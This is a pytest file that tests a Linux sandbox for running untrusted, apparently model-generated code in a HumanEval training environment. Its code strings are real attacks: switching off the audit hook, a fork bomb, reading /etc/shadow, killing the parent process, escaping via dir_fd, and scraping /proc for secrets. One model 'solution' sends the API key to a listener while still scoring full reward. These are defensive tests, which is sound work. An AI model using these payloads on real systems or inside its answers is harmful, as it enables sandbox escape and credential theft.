"""Each attack of issue 14 as real untrusted code; every test fails if the attack succeeds.

Most attacks first switch the audit hook off in one line (and prove it is off by
importing ``socket``, which the hook refuses), so what holds is the OS boundary
alone. Each runs under an outer limit: the test's timeout, the run's own limits,
and attacks that are bounded by construction (300 forks, 600 MB, a 30 s sleep),
so a sandbox that fails cannot harm the machine. Every attack runs in every
boundary this machine has (``bwrap``, ``unshare``); one this machine lacks is
skipped, and ``test_a_boundary_exists_on_linux_as_root`` makes sure that is not
all of them where one must exist.
"""

from __future__ import annotations

import os
import random
import signal
import socket
import subprocess
import sys
import time
import uuid
from collections.abc import Callable, Iterator

import pytest
from budgetmix.training.envs import HumanEvalEnv, sandbox
from budgetmix.training.envs.sandbox import (
    SandboxLimits,
    SandboxResult,
    probe_boundary,
    run_python,
)
from budgetmix.training.envs.sandbox_boundary import BOUNDARIES
from budgetmix.training.envs.sandbox_cgroup import RunCgroup

pytestmark = pytest.mark.timeout(60)

LIMITS = SandboxLimits(cpu_seconds=5, wall_seconds=10.0, memory_bytes=256 * 2**20)

# One line switches the hook off; importing socket proves it is off.
HOOK_OFF = (
    "import sys; sys.modules['__main__']._hook.__code__ = (lambda event, args: None).__code__\n"
    "import socket\n"
    "print('HOOK-OFF', flush=True)\n"
)


def run_hostile(code: str, boundary: str, limits: SandboxLimits = LIMITS) -> SandboxResult:
    result = run_python(HOOK_OFF + code, limits=limits, boundary=boundary)
    assert result.boundary == boundary
    assert "HOOK-OFF" in result.stdout, result.stderr  # the OS layer alone was tested
    return result


@pytest.fixture
def listener() -> Iterator[socket.socket]:
    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    server.settimeout(0.3)
    yield server
    server.close()


def assert_no_connection(server: socket.socket) -> None:
    try:
        conn, _ = server.accept()
    except TimeoutError:
        return
    data = conn.recv(65536)
    conn.close()
    pytest.fail(f"the sandbox reached a loopback listener of the host and sent {data!r}")


def test_a_boundary_exists_on_linux_as_root() -> None:
    if not sys.platform.startswith("linux") or os.geteuid() != 0:
        pytest.skip("only a Linux root machine (as in CI) is sure to have one")
    assert any(not probe_boundary(name) for name in BOUNDARIES), [
        probe_boundary(n) for n in BOUNDARIES
    ]


def test_fork_bomb_stops_at_the_process_limit(boundary: str) -> None:
    code = (
        "import os\n"
        "r, w = os.pipe()\n"
        "n = 0\n"
        "for _ in range(300):\n"
        "    try:\n"
        "        pid = os.fork()\n"
        "    except OSError:\n"
        "        break\n"
        "    if pid == 0:\n"
        "        os.close(w); os.read(r, 1); os._exit(0)\n"
        "    n += 1\n"
        "print('FORKED', n, flush=True)\n"
    )
    limits = SandboxLimits(cpu_seconds=5, wall_seconds=10.0, max_processes=16)
    result = run_hostile(code, boundary, limits)
    forked = int(result.stdout.split("FORKED")[1].split()[0])
    assert forked < 16, result.stdout


def test_a_shell_does_not_run_as_root(boundary: str) -> None:
    code = (
        "import os, subprocess\n"
        "out = subprocess.run(['/bin/sh', '-c', 'id -u; cat /etc/shadow'],\n"
        "                     capture_output=True, text=True)\n"
        "print('SHELL-UID', out.stdout.split()[0], flush=True)\n"
        "print(out.stdout)\n"
        "try:\n"
        "    os.setuid(0)\n"
        "    print('BECAME-ROOT')\n"
        "except OSError:\n"
        "    pass\n"
    )
    result = run_hostile(code, boundary)
    shell_uid = result.stdout.split("SHELL-UID")[1].split()[0]
    assert shell_uid.isdigit() and int(shell_uid) != 0, result.stdout
    assert "BECAME-ROOT" not in result.stdout
    assert "root:" not in result.stdout  # no line of /etc/shadow


def test_no_connection_to_a_host_loopback_socket(boundary: str, listener: socket.socket) -> None:
    port = listener.getsockname()[1]
    code = (
        "try:\n"
        f"    socket.create_connection(('127.0.0.1', {port}), timeout=1).sendall(b'attack')\n"
        "    print('CONNECTED')\n"
        "except OSError as exc:\n"
        "    print('NO-CONNECTION', exc)\n"
    )
    result = run_hostile(code, boundary)
    assert "CONNECTED" not in result.stdout
    assert_no_connection(listener)


RUNNER = r"""
import os, sys
from budgetmix.training.envs.sandbox import SandboxLimits, run_python
code = sys.argv[2].replace("PARENT", str(os.getpid()))
result = run_python(code, limits=SandboxLimits(wall_seconds=10.0), boundary=sys.argv[1])
print(result.stdout)
print("SURVIVED", flush=True)
"""


def test_the_parent_survives(boundary: str) -> None:
    # The caller of run_python is a sacrificial process, so a successful attack kills it,
    # not pytest; the test fails if it died.
    code = HOOK_OFF + (
        "import os, signal\n"
        "for pid in (os.getppid(), PARENT):\n"
        "    try:\n"
        "        os.kill(pid, signal.SIGKILL)\n"
        "        print('KILLED', pid)\n"
        "    except OSError as exc:\n"
        "        print('KILL-FAILED', pid, exc)\n"
    )
    proc = subprocess.run(
        [sys.executable, "-c", RUNNER, boundary, code],
        capture_output=True,
        text=True,
        timeout=40,
    )
    assert proc.returncode == 0 and "SURVIVED" in proc.stdout, (proc.returncode, proc.stderr)
    assert "HOOK-OFF" in proc.stdout and "KILL-FAILED" in proc.stdout


def _processes_with(token: str) -> list[int]:
    found = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            with open(f"/proc/{entry}/cmdline", "rb") as f:
                if token.encode() in f.read():
                    found.append(int(entry))
        except OSError:
            continue
    return found


def test_no_grandchild_survives_the_run(boundary: str) -> None:
    token = f"budgetmix-grandchild-{uuid.uuid4().hex}"
    code = (
        "import os, time\n"
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        "    if os.fork() == 0:\n"
        "        os.execv(sys.executable,\n"
        f"                 [sys.executable, '-c', 'import time; time.sleep(30)', {token!r}])\n"
        "    os._exit(0)\n"
        "time.sleep(0.5)\n"
        "print('SPAWNED')\n"
    )
    try:
        result = run_hostile(code, boundary)
        assert "SPAWNED" in result.stdout
        assert _processes_with(token) == []
    finally:
        for pid in _processes_with(token):
            os.kill(pid, signal.SIGKILL)


ORPHAN_RUNNER = r"""
import sys
from budgetmix.training.envs import sandbox
sandbox.secrets.randbelow = lambda n: int(sys.argv[2])  # the run's uid, known to the test
sandbox.run_python("import time\ntime.sleep(30)", boundary=sys.argv[1],
                   limits=sandbox.SandboxLimits(wall_seconds=40.0))
"""


def _processes_of_uid(uid: int) -> list[int]:
    found = []
    for entry in os.listdir("/proc"):
        try:
            with open(f"/proc/{entry}/status", encoding="ascii") as f:
                lines = [line for line in f if line.startswith("Uid:")]
        except (OSError, UnicodeDecodeError):
            continue
        if lines and int(lines[0].split()[1]) == uid:
            found.append(int(entry))
    return found


def _wait_for(predicate: Callable[[], bool], seconds: float) -> bool:
    deadline = time.monotonic() + seconds
    while not predicate():
        if time.monotonic() > deadline:
            return False
        time.sleep(0.05)
    return True


def test_the_run_dies_with_its_caller(boundary: str) -> None:
    if os.geteuid() != 0:
        pytest.skip("only as root does the run get a uid of its own to look for")
    offset = random.randrange(1 << 24)
    uid = sandbox._UID_BASE + offset
    caller = subprocess.Popen([sys.executable, "-c", ORPHAN_RUNNER, boundary, str(offset)])
    try:
        assert _wait_for(lambda: bool(_processes_of_uid(uid)), 20), "the run never started"
    finally:
        caller.kill()
        caller.wait()
    try:
        assert _wait_for(lambda: not _processes_of_uid(uid), 10), "the run outlived its caller"
    finally:
        for pid in _processes_of_uid(uid):
            os.kill(pid, signal.SIGKILL)


ESCAPE_DIRS = ("/tmp", "/", "/usr", "..")


def test_no_file_created_outside_through_dir_fd(boundary: str) -> None:
    # No hook switched off: the hook sees only the relative name, the OS must refuse.
    name = f"budgetmix-escape-{uuid.uuid4().hex}"
    code = (
        "import os\n"
        f"for d in {ESCAPE_DIRS!r}:\n"
        "    try:\n"
        "        fd = os.open(d, os.O_RDONLY)\n"
        f"        os.close(os.open({name!r}, os.O_CREAT | os.O_WRONLY, 0o644, dir_fd=fd))\n"
        "        print('CREATED', d)\n"
        "    except OSError as exc:\n"
        "        print('FAILED', d, exc)\n"
    )
    host_paths = [os.path.join(d, name) for d in ("/tmp", "/", "/usr")]
    try:
        result = run_python(code, limits=LIMITS, boundary=boundary)
        assert result.ok, result.stderr
        assert "CREATED" not in result.stdout, result.stdout
        assert not any(os.path.exists(p) for p in host_paths)
    finally:
        for path in host_paths:
            if os.path.exists(path):
                os.remove(path)


def test_etc_shadow_is_not_readable(boundary: str) -> None:
    code = (
        "try:\n"
        "    print('SHADOW-READ', open('/etc/shadow').read())\n"
        "except OSError as exc:\n"
        "    print('NO-SHADOW', exc)\n"
    )
    result = run_python(code, limits=LIMITS, boundary=boundary)
    assert "NO-SHADOW" in result.stdout and "SHADOW-READ" not in result.stdout


def test_the_parents_environment_is_not_visible(
    boundary: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    secret = f"sk-budgetmix-{uuid.uuid4().hex}"
    monkeypatch.setenv("BUDGETMIX_SANDBOX_SECRET", secret)
    code = (
        "import os\n"
        f"pids = [os.getppid(), {os.getpid()}] + [p for p in os.listdir('/proc') if p.isdigit()]\n"
        "for pid in pids:\n"
        "    for name in ('environ', 'cmdline'):\n"
        "        try:\n"
        "            print(pid, name, open(f'/proc/{pid}/{name}', 'rb').read())\n"
        "        except OSError as exc:\n"
        "            print(pid, name, 'unreadable', exc)\n"
        "print(dict(os.environ))\n"
    )
    result = run_python(code, limits=LIMITS, boundary=boundary)
    assert result.ok, result.stderr
    assert secret not in result.stdout + result.stderr
    assert "pytest" not in result.stdout  # no view of the test process at all


def test_many_small_files_stop_at_the_disk_quota(boundary: str) -> None:
    code = (
        "chunk = b'x' * (1 << 20)\n"
        "written = 0\n"
        "try:\n"
        "    for i in range(600):\n"
        "        with open(f'f{i}', 'wb') as f:\n"
        "            f.write(chunk)\n"
        "        written += len(chunk)\n"
        "except OSError as exc:\n"
        "    print('STOPPED', exc)\n"
        "print('WRITTEN', written)\n"
    )
    limits = SandboxLimits(
        cpu_seconds=5, wall_seconds=10.0, file_size_bytes=2 * 2**20, disk_bytes=8 * 2**20
    )
    result = run_python(code, limits=limits, boundary=boundary)
    written = int(result.stdout.split("WRITTEN")[1].split()[0])
    assert written <= 8 * 2**20 and "No space left" in result.stdout, result.stdout


def _have_cgroup() -> bool:
    cgroup = RunCgroup.create(memory_bytes=2**30, max_pids=64)
    if cgroup is None or cgroup.memory_dir is None:
        return False
    cgroup.remove()
    return True


@pytest.mark.slow
def test_the_memory_of_all_processes_is_capped_together(boundary: str) -> None:
    if not _have_cgroup():
        pytest.skip("no writable memory cgroup here: only the per-process RLIMIT_AS applies")
    # Four processes of 120 MB each stay under RLIMIT_AS (200 MB) but not under the cgroup.
    code = (
        "import os, time\n"
        "r, w = os.pipe()\n"
        "for _ in range(4):\n"
        "    if os.fork() == 0:\n"
        "        os.close(r)\n"
        "        block = bytearray(120 * 2**20)\n"
        "        for i in range(0, len(block), 4096):\n"
        "            block[i] = 1\n"
        "        os.write(w, b'1')\n"
        "        time.sleep(2)\n"
        "        os._exit(0)\n"
        "os.close(w)\n"
        "done = 0\n"
        "while os.read(r, 1):  # EOF once every child has exited or been killed\n"
        "    done += 1\n"
        "print('ALLOCATED', done)\n"
    )
    limits = SandboxLimits(
        cpu_seconds=5, wall_seconds=10.0, memory_bytes=200 * 2**20, disk_bytes=8 * 2**20
    )
    result = run_hostile(code, boundary, limits)
    assert "ALLOCATED 4" not in result.stdout, result.stdout


def test_humaneval_episode_cannot_exfiltrate_the_api_key(
    monkeypatch: pytest.MonkeyPatch, listener: socket.socket
) -> None:
    key = f"sk-test-{uuid.uuid4().hex}"
    monkeypatch.setenv("OPENAI_API_KEY", key)
    port = listener.getsockname()[1]
    problems = {
        "toy/0": {
            "task_id": "toy/0",
            "prompt": 'def add(a: int, b: int) -> int:\n    """Add."""\n',
            "canonical_solution": "    return a + b\n",
            "test": "def check(candidate):\n    assert candidate(1, 2) == 3\n",
            "entry_point": "add",
        }
    }
    solution = (
        "```python\n"
        "def add(a, b):\n"
        "    return a + b\n\n" + HOOK_OFF + "import os\n"
        "loot = os.environ.get('OPENAI_API_KEY', '')\n"
        "for pid in os.listdir('/proc'):\n"
        "    try:\n"
        "        loot += open(f'/proc/{pid}/environ').read()\n"
        "    except OSError:\n"
        "        pass\n"
        "try:\n"
        f"    socket.create_connection(('127.0.0.1', {port}), timeout=1).sendall(loot.encode())\n"
        "except OSError:\n"
        "    pass\n"
        "```"
    )
    env = HumanEvalEnv(problems=problems, limits=LIMITS)
    env.reset(0)
    step = env.step(solution)
    assert env.last_run is not None and "HOOK-OFF" in env.last_run.stdout
    assert step.reward == 1.0  # scored as usual ...
    assert_no_connection(listener)  # ... and the key went nowhere
    assert key not in step.observation + env.last_run.stdout + env.last_run.stderr
